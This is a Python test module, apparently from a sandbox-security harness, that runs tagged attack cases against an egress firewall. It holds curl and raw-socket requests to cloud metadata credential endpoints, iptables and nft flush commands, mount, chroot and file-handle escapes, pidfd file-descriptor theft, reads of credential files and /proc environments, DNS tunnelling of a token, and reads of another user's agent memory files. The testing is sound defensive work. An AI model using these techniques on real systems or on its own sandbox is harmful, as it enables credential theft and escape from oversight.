"""The batteries that other products run against their egress walls: E, B and R of the list, with real clients."""

# mypy: ignore-errors
# ruff: noqa: SIM115
import base64
import contextlib
import os
import socket
import subprocess

from common import GIVEN, address_of, attack, call, drain, http, https, query, request, speak
from kernel import NEWNS, capable, in_child

ALLOWED, DENIED = "docs.example.com", "denied.example.com"


def curl(report, case, *arguments, environment=None):
    """What curl prints; its exit code is told."""
    command = [
        "curl",
        "-sS",
        "-k",
        "--max-time",
        "3",
        "--connect-timeout",
        "2",
        "-H",
        f"X-Case: case={case};",
        *arguments,
    ]
    done = subprocess.run(command, capture_output=True, check=False, env={**os.environ, **(environment or {})})
    report.how(f"curl {done.returncode}")
    report.heard(done.stdout)
    return done.stdout


@attack("E-L1")
def https_allowed(report, case):
    curl(report, case, f"https://{ALLOWED}/")


@attack("E-L2")
def http_allowed(report, case):
    curl(report, case, f"http://{ALLOWED}/")


@attack("E-L3", "B-wildcard")
def sibling(report, case):
    curl(report, case, "https://sibling.example.com/")
    curl(report, case, "--connect-to", f"sibling.example.com:443:{ALLOWED}:443", "https://sibling.example.com/")


@attack("E-A1")
def connect_method(report, case):
    for port in (80, 443):
        with report.trying(str(port)):
            said = speak(
                address_of(ALLOWED),
                port,
                b"CONNECT denied.example.com:443 HTTP/1.1\r\nHost: denied.example.com:443\r\n\r\n",
            )
            report.how(said[:30])
    curl(report, case, "-x", f"http://{ALLOWED}:80", f"https://{DENIED}/")


@attack("E-A2", "B-proxyless")
def direct_denied(report, case):
    curl(report, case, "--noproxy", "*", f"https://{DENIED}/")
    curl(report, case, "--noproxy", "*", "--resolve", f"{DENIED}:443:{GIVEN['denied4']}", f"https://{DENIED}/")


@attack("E-A3")
def direct_allowed_by_address(report, case):
    curl(report, case, "--noproxy", "*", "--resolve", f"{ALLOWED}:443:{GIVEN['allowed4']}", f"https://{ALLOWED}/")


@attack("E-A4", "B-rawip")
def literal(report, case):
    curl(report, case, f"https://{GIVEN['denied4']}/")
    curl(report, case, f"http://{GIVEN['denied4']}/")


@attack("E-A7", "B-imds")
def metadata(report, case):
    four, six = GIVEN["metadata4"], GIVEN["metadata6"]
    curl(report, case, f"http://{four}/latest/meta-data/iam/security-credentials/role")
    curl(report, case, "-X", "PUT", "-H", "X-aws-ec2-metadata-token-ttl-seconds: 60", f"http://{four}/latest/api/token")
    curl(
        report,
        case,
        "-H",
        "Metadata-Flavor: Google",
        f"http://{four}/computeMetadata/v1/instance/service-accounts/default/token",
    )
    curl(report, case, "-H", "Metadata: true", f"http://{four}/metadata/identity/oauth2/token?api-version=2018-02-01")
    curl(report, case, "-g", f"http://[{six}]/latest/meta-data/")
    curl(report, case, "http://metadata.google.internal/computeMetadata/v1/")


@attack("E-A8", "B-host-ports", "R-207")
def private_ports(report, case):
    for host in (GIVEN["private4"], "127.0.0.1"):
        for port in (22, 8080, 3306, 6379, 5432):
            with report.trying(f"{host}:{port}"):
                report.heard(speak(host, port, b"case=%s;\r\n" % case.encode(), seconds=0.5))


@attack("E-A9")
def ssh_banner(report, case):
    for where in {GIVEN["allowed4"], address_of(ALLOWED)}:
        with report.trying(where):
            report.heard(speak(where, 22, b"SSH-2.0-case=%s;\r\n" % case.encode()))


@attack("E-A12", "B-ipv6")
def ipv6(report, case):
    curl(report, case, "-g", f"https://[{GIVEN['denied6']}]/")
    curl(report, case, "-6", f"https://{DENIED}/")
    curl(report, case, "-g", "http://[fe80::1%25lo]/")
    curl(report, case, "-g", f"http://[::ffff:{GIVEN['metadata4']}]/latest/meta-data/")


@attack("E-TAMPER", "B-iptables")
def routes(report, case):
    for argv in (
        ["ip", "route", "add", "default", "via", "127.0.0.1"],
        ["ip", "addr", "add", "11.1.1.1/32", "dev", "lo"],
        ["ip", "link", "add", "x", "type", "dummy"],
        ["iptables", "-F"],
        ["iptables", "-t", "nat", "-F"],
        ["nft", "flush", "ruleset"],
    ):
        with report.trying(argv[0]):
            if subprocess.run(argv, capture_output=True, check=False).returncode == 0:
                report.gained(" ".join(argv[:4]))
    with report.trying("ioctl"), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        import fcntl
        import struct

        fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 0))  # SIOCSIFFLAGS: down
        report.gained("an interface changed")
    with report.trying("netlink"), socket.socket(16, socket.SOCK_RAW, 0) as sock:
        body = b"\2\x20\0\0\x10\0\0\0\1\0\0\0" + b"\0" * 16
        header = (16 + len(body)).to_bytes(4, "little") + b"\x14\0\x05\x06\1\0\0\0\0\0\0\0"
        sock.settimeout(0.5)
        sock.send(header + body)
        report.how(drain_once(sock))
    # and afterwards the walls stand as before
    with report.trying("after"):
        report.heard(https(GIVEN["denied4"], 443, DENIED, case))


def drain_once(sock):
    with contextlib.suppress(OSError):
        return int.from_bytes(sock.recv(100)[16:20], "little", signed=True)
    return "no answer"


@attack("E-M2", "E-M5")
def gateway_as_proxy(report, case):
    for name in GIVEN["gateways"]:
        with report.trying(name):
            curl(report, case, "-x", f"http://{name}:80", f"http://{DENIED}/")
            curl(report, case, "-x", f"http://{name}:80", f"https://{DENIED}/")
            http(address_of(name), 80, DENIED, case)


@attack("E-M3")
def gateway_ports(report, case):
    for name in GIVEN["gateways"]:
        for port in (3128, 3129, 1080, 8888, 9050, 8000, 443, 22):
            with report.trying():
                report.heard(speak(address_of(name), port, b"case=%s;\r\n" % case.encode(), seconds=0.5))
                report.gained(f"port {port} of {name}")


@attack("E-M1")
def gateway_reachable(report, case):
    for name in GIVEN["gateways"]:
        report.heard(http(address_of(name), 80, name, case))


@attack("B-overrides")
def client_overrides(report, case):
    curl(report, case, "--connect-to", f"{DENIED}:443:{ALLOWED}:443", f"https://{DENIED}/")
    curl(report, case, "--connect-to", f"::{GIVEN['denied4']}:443", f"https://{ALLOWED}/")
    for name in ("ALL_PROXY", "HTTPS_PROXY", "http_proxy"):
        curl(report, case, f"https://{DENIED}/", environment={name: f"http://{GIVEN['relay4']}:3128", "NO_PROXY": ""})
    curl(report, case, f"https://{DENIED}/", environment={"NO_PROXY": "*", "no_proxy": "*"})
    curl(report, case, "--socks5-hostname", f"{GIVEN['relay4']}:1080", f"https://{DENIED}/")


@attack("B-doh")
def resolvers_over_https(report, case):
    for name in ("cloudflare-dns.com", "dns.google"):
        curl(report, case, "-H", "accept: application/dns-json", f"https://{name}/dns-query?name=example.com")
    curl(report, case, "--doh-url", f"https://{GIVEN['resolver4']}/dns-query", f"https://{DENIED}/")


@attack("B-dns")
def resolvers(report, case):
    for address in (GIVEN["resolver4"], GIVEN["resolver6"]):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with report.trying(address):
                asked = query(f"case-{case.lower()}.example.net")
                framed = asked if kind == socket.SOCK_DGRAM else len(asked).to_bytes(2, "big") + asked
                report.heard(speak(address, 53, framed, kind=kind, seconds=0.5))


@attack("B-names")
def lookalikes(report, case):
    for name in (
        "DENIED.EXAMPLE.COM",
        "denied.example.com.",
        "docs.example.com.denied.example.net",
        "docs-example.com",
    ):
        with report.trying(name):
            curl(report, case, f"https://{name.strip()}/")
        with report.trying(name):
            report.heard(https(address_of(ALLOWED), 443, name.strip(), case))


@attack("B-long-names")
def long_names(report, case):
    for name in ("a." * 126 + "example.com", "a" * 64 + ".example.com", "a." * 200 + "example.com"):
        with report.trying():
            report.heard(https(address_of(name), 443, name[:253], case))


@attack("B-protocols")
def protocols(report, case):
    curl(report, case, "--http2", f"https://{ALLOWED}/")
    curl(report, case, "--http1.1", f"https://{ALLOWED}/")


@attack("B-git")
def git_elsewhere(report, case):
    for url in (f"https://{DENIED}/x.git", f"http://{GIVEN['denied4']}/x.git", f"git://{GIVEN['denied4']}/x.git"):
        done = subprocess.run(
            ["git", "-c", "http.sslVerify=false", "-c", f"http.extraHeader=X-Case: case={case};", "ls-remote", url],
            capture_output=True,
            check=False,
            timeout=5,
            env={**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "true"},
        )
        report.how(f"git {done.returncode}")
        report.heard(done.stdout)


@attack("B-redirect")
def redirects(report, case):
    curl(report, case, "-L", f"https://{ALLOWED}/redirect")
    curl(report, case, "-L", f"http://{ALLOWED}/redirect-metadata")


@attack("B-websocket")
def websocket(report, case):
    said = request(DENIED, "/ws", case).replace(b"Connection: close", b"Connection: Upgrade\r\nUpgrade: websocket")
    with report.trying():
        report.heard(speak(GIVEN["denied4"], 80, said))


@attack("B-caps")
def capabilities(report, _):
    if capable():
        report.gained("capabilities")
    with open("/proc/self/status") as file:
        facts = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    for name in ("CapBnd", "CapPrm", "CapAmb", "CapInh"):
        if facts[name].strip("0"):
            report.gained(f"{name} {facts[name]}")
    if facts["NoNewPrivs"] != "1":
        report.gained("new privileges by exec")


@attack("B-mounts")
def mounting(report, _):
    def tmpfs():
        call("mount", b"none", b"/tmp", b"tmpfs", 0, 0)
        return "a mount"

    def chroot():
        os.chroot("/tmp")
        return "chroot"

    def unmount():
        call("umount2", b"/proc", 2)
        return "an unmounted /proc"

    def pivot():
        call("pivot_root", b".", b".")
        return "another root"

    def remount():
        call("mount", b"none", b"/", 0, 0x20 | 0x1000, 0)  # MS_REMOUNT | MS_BIND, writable
        return "a writable root"

    def private():
        call("unshare", NEWNS)
        return "a mount namespace"

    for action in (tmpfs, chroot, unmount, pivot, remount, private):
        with report.trying(action.__name__):
            in_child(action, report)


@attack("B-handles")
def handles(report, _):
    with report.trying("name_to_handle_at"):
        call("name_to_handle_at", -100, b"/", 0, 0, 0)
        report.how("a handle")
    import struct

    for number in (2, 128, 256):
        handle = struct.pack("IiQ", 8, 1, number)
        with report.trying("open_by_handle_at"):
            fd = os.open("/", os.O_RDONLY)
            call("open_by_handle_at", fd, __import__("ctypes").c_char_p(handle), os.O_RDONLY)
            report.gained("a file by its handle")


@attack("B-credentials")
def credential_files(report, _):
    for path in GIVEN["secrets"]:
        for shown in (path, "/host" + path):
            with contextlib.suppress(OSError):
                with open(shown, "rb") as file:
                    data = file.read()
                report.heard(data)
                report.heard(base64.b64decode(base64.b64encode(data)))
    link = "/tmp/link-to-secret"
    for path in GIVEN["secrets"]:
        with contextlib.suppress(OSError):
            if os.path.lexists(link):
                os.unlink(link)  # noqa: PTH108
            os.symlink(path, link)  # noqa: PTH211
            report.heard(open(link).read())


@attack("B-grep")
def search(report, _):
    done = subprocess.run(
        ["grep", "-rIs", "-m1", "--exclude-dir=proc", "CANARY-", "/srv", "/opt", "/media", "/tmp", GIVEN["home"]],
        capture_output=True,
        check=False,
        timeout=4,
    )
    report.heard(done.stdout)


@attack("B-environ")
def environments(report, _):
    for pid in ("self", "1", str(os.getppid())):
        for item in ("environ", "cmdline", "mountinfo"):
            with report.trying(item), open(f"/proc/{pid}/{item}", "rb") as file:
                report.heard(file.read())


@attack("R-2265")
def handles_of_pids(report, _):
    for pid in (GIVEN["victim"], os.getppid()):
        with report.trying("pidfd"):
            fd = os.pidfd_open(pid)
            for number in range(3, 30):
                with contextlib.suppress(OSError):
                    taken = call("pidfd_getfd", fd, number, 0)
                    os.lseek(taken, 0, os.SEEK_SET)
                    report.heard(os.read(taken, 1000))
    with report.trying("process_madvise"):
        call("process_madvise", 0, 0, 0, 0, 0)
        report.how("process_madvise answered")


@attack("R-1246")
def tunnel_by_allowed_resolver(report, case):
    secret = f"case-{case.lower()}-" + base64.b32encode(b"token").decode().strip("=").lower()
    for name in (f"{secret}.example.net", f"{secret}.docs.example.com"):
        with contextlib.suppress(OSError, UnicodeError):
            socket.getaddrinfo(name, 443)
            report.gained(f"an address for {name}")
        for kind in (socket.SOCK_DGRAM,):
            with report.trying():
                speak("127.0.0.1", 53, query(name, 16), kind=kind, seconds=0.5, most=1)


@attack("R-memory")
def other_users_caches(report, _):
    for path in (f"{GIVEN['home']}/.cache/agent/memory.md", f"{GIVEN['home']}/.claude/CLAUDE.md"):
        with report.trying(path):
            report.heard(open(path).read())


@attack("B-tunnel")
def second_host_on_one_connection(report, case):
    """A second request on a connection to an allowed name, for another host: it goes where the first went."""
    with socket.create_connection((address_of(ALLOWED), 80), timeout=2) as sock:
        sock.sendall(request(ALLOWED, "/", case + "-first").replace(b"Connection: close", b"Connection: keep-alive"))
        sock.recv(65536)
        with report.trying():
            sock.sendall(request(DENIED, "/", case))
            report.how(len(drain(sock)))
